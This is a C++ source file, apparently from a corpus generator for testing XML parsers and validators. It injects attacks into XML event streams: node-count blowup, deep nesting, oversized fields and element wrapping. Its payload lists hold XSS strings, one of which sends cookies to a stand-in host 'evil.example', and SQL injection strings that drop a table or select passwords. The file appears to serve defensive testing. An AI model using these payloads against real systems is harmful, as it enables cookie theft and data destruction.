#include "xvpa/corpus/attacks.hpp"

#include "xvpa/random.hpp"

namespace xvpa::corpus {

namespace {

using Events = std::vector<Event>;

const std::vector<std::string> kScripts{
    "<script>alert(document.cookie)</script>",
    "<script src=\"http://evil.example/x.js\"></script>",
    "<img src=x onerror=alert(1)>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
};

const std::vector<std::string> kSql{
    "1' OR '1'='1",
    "0; DROP TABLE cars; --",
    "1 UNION SELECT password FROM users",
    "' OR 1=1 --",
};

std::vector<std::size_t> occurrences(const Events& events, const std::string& target) {
  std::vector<std::size_t> out;
  for (std::size_t i = 0; i < events.size(); ++i) {
    const auto& e = events[i];
    if (e.kind == EventKind::StartElement && !e.name.attribute && e.name.local == target) out.push_back(i);
  }
  return out;
}

// Index one past the end event matching the start at `i`.
std::size_t subtreeEnd(const Events& events, std::size_t i) {
  std::size_t depth = 0;
  for (std::size_t j = i; j < events.size(); ++j) {
    if (events[j].kind == EventKind::StartElement) ++depth;
    if (events[j].kind == EventKind::EndElement && --depth == 0) return j + 1;
  }
  throw InapplicableAttack("unbalanced document");
}

// First child position after the start at `i` and its attribute triples.
std::size_t contentStart(const Events& events, std::size_t i) {
  std::size_t p = i + 1;
  while (p < events.size() && events[p].kind == EventKind::StartElement && events[p].name.attribute) p += 3;
  return p;
}

std::size_t pick(const std::vector<std::size_t>& candidates, Rng& rng, const AttackSpec& spec) {
  if (candidates.empty()) {
    throw InapplicableAttack(std::string(attackName(spec.kind)) + ": document has no element " + spec.target);
  }
  return candidates[uniformBelow(rng, candidates.size())];
}

// Occurrences whose only content is one text.
std::vector<std::size_t> textFields(const Events& events, const std::string& target) {
  std::vector<std::size_t> out;
  for (auto i : occurrences(events, target)) {
    std::size_t c = contentStart(events, i);
    if (c + 1 < events.size() && events[c].kind == EventKind::Characters &&
        events[c + 1].kind == EventKind::EndElement) {
      out.push_back(c);
    }
  }
  return out;
}

DocumentEventStream finish(Events events) {
  for (std::size_t i = 0; i < events.size(); ++i) events[i].index = i;
  return streamFromEvents(std::move(events));
}

}  // namespace

const std::vector<AttackKind>& allAttackKinds() {
  static const std::vector<AttackKind> kinds{AttackKind::HighNodeCount,        AttackKind::CoerciveParsing,
                                             AttackKind::OversizedPayload,     AttackKind::CdataScriptInjection,
                                             AttackKind::SqlInjectionText,     AttackKind::StructuralWrapping};
  return kinds;
}

std::string_view attackName(AttackKind kind) {
  switch (kind) {
    case AttackKind::HighNodeCount: return "high-node-count";
    case AttackKind::CoerciveParsing: return "coercive-parsing";
    case AttackKind::OversizedPayload: return "oversized-payload";
    case AttackKind::CdataScriptInjection: return "cdata-script-injection";
    case AttackKind::SqlInjectionText: return "sql-injection-text";
    case AttackKind::StructuralWrapping: return "structural-wrapping";
  }
  return "?";
}

std::optional<AttackKind> parseAttackKind(std::string_view name) {
  for (auto kind : allAttackKinds()) {
    if (attackName(kind) == name) return kind;
  }
  return std::nullopt;
}

AttackClass attackClass(AttackKind kind) {
  switch (kind) {
    case AttackKind::CoerciveParsing:
    case AttackKind::StructuralWrapping: return AttackClass::Structural;
    case AttackKind::OversizedPayload:
    case AttackKind::CdataScriptInjection:
    case AttackKind::SqlInjectionText: return AttackClass::Datatype;
    case AttackKind::HighNodeCount: return AttackClass::Repetition;
  }
  return AttackClass::Structural;
}

std::string_view attackClassName(AttackClass c) {
  switch (c) {
    case AttackClass::Structural: return "structural";
    case AttackClass::Datatype: return "datatype";
    case AttackClass::Repetition: return "repetition";
  }
  return "?";
}

DocumentEventStream injectAttack(const DocumentEventStream& doc, const AttackSpec& spec, const AttackSizes& sizes) {
  Rng rng(spec.seed);
  Events events = doc.events();
  switch (spec.kind) {
    case AttackKind::HighNodeCount: {
      std::size_t i = pick(occurrences(events, spec.target), rng, spec);
      std::size_t end = subtreeEnd(events, i);
      Events subtree(events.begin() + static_cast<std::ptrdiff_t>(i), events.begin() + static_cast<std::ptrdiff_t>(end));
      Events copies;
      copies.reserve(subtree.size() * sizes.copies);
      for (std::size_t n = 0; n < sizes.copies; ++n) copies.insert(copies.end(), subtree.begin(), subtree.end());
      events.insert(events.begin() + static_cast<std::ptrdiff_t>(end), copies.begin(), copies.end());
      break;
    }
    case AttackKind::CoerciveParsing: {
      std::size_t i = pick(occurrences(events, spec.target), rng, spec);
      std::size_t at = contentStart(events, i);
      Events nest;
      nest.reserve(2 * sizes.depth);
      for (std::size_t n = 0; n < sizes.depth; ++n) nest.push_back(Event::start("nest"));
      for (std::size_t n = 0; n < sizes.depth; ++n) nest.push_back(Event::end("nest"));
      events.insert(events.begin() + static_cast<std::ptrdiff_t>(at), nest.begin(), nest.end());
      break;
    }
    case AttackKind::OversizedPayload: {
      std::size_t c = pick(textFields(events, spec.target), rng, spec);
      const char letter = static_cast<char>('A' + uniformBelow(rng, 26));
      events[c].text = std::string(sizes.payloadBytes, letter);
      break;
    }
    case AttackKind::CdataScriptInjection: {
      std::size_t c = pick(textFields(events, spec.target), rng, spec);
      events[c].text = kScripts[uniformBelow(rng, kScripts.size())];
      break;
    }
    case AttackKind::SqlInjectionText: {
      std::size_t c = pick(textFields(events, spec.target), rng, spec);
      events[c].text = kSql[uniformBelow(rng, kSql.size())];
      break;
    }
    case AttackKind::StructuralWrapping: {
      // The original subtree moves behind a Wrapper element at the front of
      // the root; a duplicate takes its place.
      auto candidates = occurrences(events, spec.target);
      std::erase(candidates, std::size_t{0});
      std::size_t i = pick(candidates, rng, spec);
      std::size_t end = subtreeEnd(events, i);
      Events wrapped{Event::start("Wrapper")};
      wrapped.insert(wrapped.end(), events.begin() + static_cast<std::ptrdiff_t>(i),
                     events.begin() + static_cast<std::ptrdiff_t>(end));
      wrapped.push_back(Event::end("Wrapper"));
      std::size_t at = contentStart(events, 0);
      events.insert(events.begin() + static_cast<std::ptrdiff_t>(at), wrapped.begin(), wrapped.end());
      break;
    }
  }
  return finish(std::move(events));
}

}  // namespace xvpa::corpus
